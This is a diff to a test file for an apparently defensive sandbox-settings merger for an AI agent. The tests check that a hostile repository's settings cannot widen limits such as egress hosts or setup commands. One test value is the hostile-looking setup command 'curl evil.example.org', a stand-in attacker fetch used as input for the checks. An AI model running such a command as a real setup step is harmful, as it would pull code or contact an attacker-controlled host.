@@ -123,6 +123,18 @@ describe('tighten', () => {
     expect(tighten(top, {})).toEqual(top)
   })
 
+  it('takes the setup commands of the last patch that has some, unless an earlier one turns them off', () => {
+    const folder = { setup_commands: ['npm ci'] }
+    const commandsOf = (top: Partial<SandboxSettings>, ...patches: SandboxSettingsPatch[]) =>
+      tighten(ceilingOf(top), ...patches).setup_commands
+
+    expect(commandsOf({}, folder, {})).toEqual(['npm ci'])
+    expect(commandsOf(folder, { setup_commands: ['make deps'] })).toEqual(['make deps'])
+    expect(commandsOf({}, folder, { setup_commands: [] })).toEqual([])
+    expect(commandsOf({ setup_commands: [] }, folder)).toEqual([])
+    expect(commandsOf({}, {})).toBeUndefined()
+  })
+
   it('does not take a sibling for a folder inside', () => {
     expect(
       tighten(ceilingOf({ allowed_repository_roots: ['/srv/a'] }), {
@@ -145,6 +157,7 @@ describe('the settings file of a hostile repository', () => {
     allowed_repository_roots: ['/srv'],
     destructive_command_patterns: ['make deploy'],
     egress_hosts: ['a.example.com'],
+    setup_commands: [],
   })
   /** The most permissive value of each key. */
   const WISHES: Readonly<Record<string, string>> = {
@@ -159,6 +172,7 @@ describe('the settings file of a hostile repository', () => {
     allowed_repository_roots: '[/, /srv, /etc]',
     destructive_command_patterns: '[]',
     egress_hosts: '["*.example.com", b.example.org]',
+    setup_commands: '[curl evil.example.org]',
   }
 
   it('is tried with every key that there is', () => {
@@ -199,6 +213,7 @@ describe('widenings', () => {
       require_outcome: true,
       approvals: { not_by_owner: true },
       budgets: { tokens: 10 },
+      setup_commands: [],
     })
 
     expect(
@@ -209,6 +224,7 @@ describe('widenings', () => {
         require_approval_for_all_shell: false,
         require_outcome: false,
         approvals: { not_by_owner: false },
+        setup_commands: ['npm ci'],
         budgets: { steps: 5, tokens: 11 },
         max_output_bytes: 104_857_600,
         allowed_repository_roots: ['/srv'],
@@ -220,6 +236,7 @@ describe('widenings', () => {
       'redact_pii',
       'require_outcome',
       'approvals',
+      'setup_commands',
       'budgets',
       'max_output_bytes',
       'allowed_repository_roots',
